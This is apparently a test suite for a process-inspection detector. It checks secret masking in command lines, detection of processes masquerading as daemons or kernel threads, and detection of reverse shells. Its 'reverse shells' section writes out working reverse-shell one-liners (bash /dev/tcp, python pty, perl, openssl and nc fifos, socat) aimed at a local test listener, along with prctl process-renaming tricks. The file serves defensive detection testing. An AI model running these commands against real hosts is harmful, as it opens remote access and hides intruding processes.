/**
 * The facts reader on real processes: what is true of them, and that what ordinary life shows stays
 * without a proof.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { copyFileSync, existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer, type Server, type Socket } from 'node:net'
import { join } from 'node:path'
import { descriptorsOf, processTable, procStat } from '../../src/facts/proc-files.ts'
import type { FactsReader } from '../../src/facts/reader.ts'
import { ask, findingsAbout, startReader, workplace } from '../support/facts.ts'
import { isRoot } from '../support/privileges.ts'
import { until } from '../support/until.ts'

/** A shell that starts an interpreter in its place would be taken for one of its own. */
const python =
  ['/usr/bin/python3', '/usr/local/bin/python3'].find((path) => existsSync(path)) ?? 'python3'

let reader: FactsReader
let place: ReturnType<typeof workplace>
let listener: Server
let port = 0
const connections = new Set<Socket>()
const started: Bun.Subprocess[] = []

beforeAll(async () => {
  if (!isRoot) return
  reader = startReader()
  place = workplace()
  listener = createServer((socket) => {
    connections.add(socket)
    socket.on('error', () => {})
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  port = (listener.address() as { port: number }).port
})
afterAll(() => {
  for (const child of started) child.kill('SIGKILL')
  for (const socket of connections) socket.destroy()
  listener?.close()
  reader?.close()
  place?.remove()
})

function start(command: string[], options: { cwd?: string } = {}): number {
  const child = Bun.spawn(command, {
    stdin: 'pipe',
    stdout: 'ignore',
    stderr: 'ignore',
    ...options,
  })
  started.push(child)
  return child.pid
}

const questions = ['program', 'streams'] as const
const about = (pid: number) => findingsAbout(reader, pid, [...questions])
const proofs = async (pid: number) => (await about(pid)).filter(({ says }) => says === 'proves')

/** A descendant that fits, once it is there. */
function descendant(pid: number, fits: (name: string, pid: number) => boolean): Promise<number> {
  return until('a descendant', () => {
    const table = processTable()
    const isBelow = (at: number): boolean => {
      const parent = table.get(at)?.ppid ?? 0
      return parent === pid || (parent > 1 && isBelow(parent))
    }
    for (const [at, { name }] of table) if (isBelow(at) && fits(name, at)) return at
    return undefined
  })
}

describe.skipIf(!isRoot)('a look', () => {
  test('tells who a process is, with its secrets masked', async () => {
    const pid = start(['sleep', '100'], { cwd: '/var' })
    const { look } = await ask(reader, pid, 'look')
    expect(look?.name).toBe('sleep')
    expect(look?.executable?.path).toBe('/usr/bin/sleep')
    expect(look?.context).toMatchObject({ uid: 0, user: 'root', cwd: '/var', command: 'sleep 100' })
    expect(look?.context.parents?.[0]?.pid).toBe(process.pid)
    const secret = start(['sh', '-c', 'sleep 100; :', 'x', '--password', 'hunter2', 'token=abc'])
    const { look: masked } = await ask(reader, secret, 'look')
    expect(masked?.context.command).toBe('sh -c sleep 100; : x --password *** token=***')
  })

  test('tells who logged in, whatever the process became', async () => {
    const pid = start(['sh', '-c', 'echo 34 >/proc/self/loginuid; setpriv --reuid=33 sleep 100; :'])
    const child = await descendant(pid, (name) => name === 'sleep')
    const { look } = await ask(reader, child, 'look')
    // The kernel may be built without it.
    const isKept = readFileSync(`/proc/${child}/loginuid`, 'utf8') === '34'
    expect(look?.context).toMatchObject({ uid: 33, user: 'www-data' })
    expect([look?.context.loginUid, look?.context.loginUser]).toEqual(
      isKept ? [34, 'backup'] : [undefined, undefined],
    )
  })

  test('is refused for a process that ended, or another one under its pid', async () => {
    const child = Bun.spawn(['true'])
    await child.exited
    expect(await reader.ask(child.pid, 0, ['look'])).toBe('gone')
    expect(await reader.ask(process.pid, 1_000_000_000, ['look'])).toBe('gone')
  })

  test('leaves the reader with two rights and no more', () => {
    const status = readFileSync(`/proc/${reader.pid}/status`, 'utf8')
    // CAP_DAC_READ_SEARCH (2) and CAP_SYS_PTRACE (19).
    expect(status).toMatch(/^CapPrm:\s*0*80004$/m)
    expect(status).toMatch(/^CapBnd:\s*0*80004$/m)
    expect(status).toMatch(/^NoNewPrivs:\s*1$/m)
  })
})

describe.skipIf(!isRoot)('names', () => {
  test('a packaged program under its own name, or by a link of the system, is no masquerade', async () => {
    const own = await about(start(['sleep', '100']))
    expect(own.map(({ says }) => says)).toEqual(['refutes'])
    const script = join(place.path, 'worker')
    writeFileSync(script, '#!/bin/sh\nread x\n', { mode: 0o755 })
    expect(await proofs(start([script]))).toEqual([])
  })

  test('a copy of a packaged program under a known name is one, wherever it lies', async () => {
    const copy = join(place.path, 'nginx')
    copyFileSync('/usr/bin/sleep', copy)
    const found = await proofs(start([copy, '100']))
    expect(found.map(({ question }) => question)).toEqual(['masquerade'])
    expect(found[0]?.because).toContain('/bin/sleep')
    // By a link that only its user made the name is no better.
    const other = join(place.path, 'other')
    copyFileSync('/usr/bin/sleep', other)
    symlinkSync(other, join(place.path, 'haproxy'))
    expect(await proofs(start([join(place.path, 'haproxy'), '100']))).toHaveLength(1)
  })

  test('what a child executed is known after it is gone, links followed', async () => {
    const program = async (name: string, path: string) => {
      const answer = await reader.ask(process.pid, 0, ['program'], { child: { name, path } })
      return typeof answer === 'string' ? undefined : answer.program
    }
    expect(await program('sleep', '/usr/bin/sleep')).toMatchObject({ state: 'verified' })
    expect(await program('awk', '/usr/bin/awk')).toMatchObject({ state: 'verified', isAlias: true })
    const copy = join(place.path, 'gone')
    copyFileSync('/usr/bin/sleep', copy)
    expect(await program('gone', copy)).toMatchObject({ state: 'unowned', copyOf: '/bin/sleep' })
    expect(await program('x', '/nowhere/x')).toMatchObject({ state: 'unowned' })
  })

  test('a copy under a name that nobody knows is none', async () => {
    const copy = join(place.path, 'mytool')
    copyFileSync('/usr/bin/sleep', copy)
    expect(await proofs(start([copy, '100']))).toEqual([])
  })

  const rename = (name: string) =>
    `import ctypes,time;ctypes.CDLL(None).prctl(15,b"${name}",0,0,0);time.sleep(100)`
  const renamed = async (python: string, name: string): Promise<number> => {
    const pid = start([python, '-c', rename(name)])
    await until('the new name', () => procStat(pid)?.name === name)
    return pid
  }

  test("a kernel thread's name on a process with memory is a proof at once; on a kernel thread it is none", async () => {
    for (const name of ['kworker/u4:2', '[ksoftirqd/0]', 'kswapd0']) {
      const found = await proofs(await renamed(python, name))
      expect(found.map(({ question }) => question)).toEqual(['masquerade'])
    }
    const thread = [...processTable()].find(([, { isKernelThread }]) => isKernelThread)
    if (thread !== undefined) expect(await about(thread[0])).toEqual([])
  })

  test("a stranger that calls itself a daemon is proven; an interpreter's program only stands out", async () => {
    const stranger = join(place.path, 'agent-x')
    copyFileSync(process.execPath, stranger)
    const pid = start([
      stranger,
      '-e',
      'require("bun:ffi").dlopen("libc.so.6",{prctl:{args:["i32","ptr"],returns:"i32"}}).symbols.prctl(15,Buffer.from("rsyslogd\\0"));setTimeout(()=>{},1e6)',
    ])
    await until('the new name', () => procStat(pid)?.name === 'rsyslogd')
    expect((await proofs(pid)).map(({ because }) => because)).toEqual([
      expect.stringContaining('its name is rsyslogd'),
    ])
    const script = await about(await renamed(python, 'rsyslogd'))
    expect(script.map(({ says }) => says)).toEqual(['supports'])
  })
})

describe.skipIf(!isRoot)('reverse shells', () => {
  const shells: [name: string, command: () => string[], who: (name: string) => boolean][] = [
    [
      'bash on /dev/tcp',
      () => ['bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`],
      (n) => n === 'bash',
    ],
    [
      'sh on /dev/udp',
      () => [
        'bash',
        '-c',
        `exec 5<>/dev/udp/127.0.0.1/${port}; sh -c 'sleep 100; :' <&5 >&5 2>&1; :`,
      ],
      (n) => n === 'sh',
    ],
    [
      'python with a terminal',
      () => [
        python,
        '-c',
        `import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",${port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")`,
      ],
      (n) => n === 'bash',
    ],
    [
      'perl that executes sh',
      () => [
        'perl',
        '-e',
        `use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(${port},inet_aton("127.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");`,
      ],
      () => true,
    ],
    [
      'a fifo and openssl',
      () => [
        'bash',
        '-c',
        `mkfifo ${place.path}/f; (sh -i <${place.path}/f 2>&1; :) | openssl s_client -quiet -connect 127.0.0.1:${port} >${place.path}/f`,
      ],
      (n) => n === 'sh',
    ],
    [
      'a fifo, cat and nc',
      () => [
        'bash',
        '-c',
        `mkfifo ${place.path}/g; cat ${place.path}/g | (sh -i 2>&1; :) | nc 127.0.0.1 ${port} >${place.path}/g`,
      ],
      (n) => n === 'sh',
    ],
    [
      'socat with a terminal',
      () => ['socat', `tcp:127.0.0.1:${port}`, 'exec:bash -i,pty,stderr,setsid,sigint,sane'],
      (n) => n === 'bash',
    ],
  ]
  test.each(shells)('%s is proven', async (name, command, who) => {
    const [program] = command()
    const tools = name.includes('nc') ? ['nc'] : name.includes('socat') ? ['socat'] : []
    for (const tool of [program!, ...tools]) if (Bun.which(tool) === null) return
    const pid = start(command())
    const shell = name.startsWith('perl') ? pid : await descendant(pid, who)
    const found = await until('a proof', async () => {
      const all = await proofs(shell).catch(() => [])
      return all.length > 0 ? all : undefined
    })
    expect(found[0]?.question).toBe('reverse-shell')
    expect(found[0]?.because).toContain(`127.0.0.1:${port}`)
  })

  const ordinary: [name: string, command: () => string[], who?: (name: string) => boolean][] = [
    [
      'a shell on pipes of a program that holds a connection of its own',
      () => [
        python,
        '-c',
        `import socket,subprocess;s=socket.create_connection(("127.0.0.1",${port}));p=subprocess.Popen(["bash","-c","read x"],stdin=subprocess.PIPE,stdout=subprocess.PIPE);p.wait()`,
      ],
      (n) => n === 'bash',
    ],
    [
      'a script that comes through a pipe',
      () => ['bash', '-c', `(exec 3<>/dev/tcp/127.0.0.1/${port}; sleep 100 >&3) | bash`],
      (n) => n === 'bash',
    ],
    [
      'a shell in a terminal of script',
      () => ['script', '-qc', 'bash --norc -i', '/dev/null'],
      (n) => n === 'bash',
    ],
    [
      'a service started for a connection that came',
      () => [
        python,
        '-c',
        `import socket,os,threading
l=socket.socket();l.bind(("127.0.0.1",0));l.listen(5)
c=socket.create_connection(l.getsockname());s,_=l.accept()
os.spawnvp(os.P_WAIT,"python3",["python3","-c","import os;[os.dup2(%d,f) for f in (0,1,2)];os.execvp('bash',['bash','-c','read x;:'])"%(os.set_inheritable(s.fileno(),True) or s.fileno())])`,
      ],
      (n) => n === 'bash',
    ],
  ]
  test.each(ordinary)('%s is not', async (_, command, who) => {
    if (Bun.which(command()[0]!) === null) return
    const pid = start(command())
    const shell = who === undefined ? pid : await descendant(pid, who)
    await until('its streams', () => descriptorsOf(shell).has(1))
    await Bun.sleep(200)
    expect(await proofs(shell)).toEqual([])
  })
})

test.skipIf(!isRoot)('FactsReader.silentMs counts from a question that has no answer', async () => {
  const stopped = startReader()
  await ask(stopped, process.pid, 'look')
  expect(stopped.silentMs).toBe(0)
  process.kill(stopped.pid, 'SIGSTOP')
  const answer = stopped.ask(process.pid, 0, ['look'])
  await Bun.sleep(50)
  expect(stopped.silentMs).toBeGreaterThan(40)
  process.kill(stopped.pid, 'SIGCONT')
  expect(await answer).toHaveProperty('look')
  expect(stopped.silentMs).toBe(0)
  stopped.close()
})
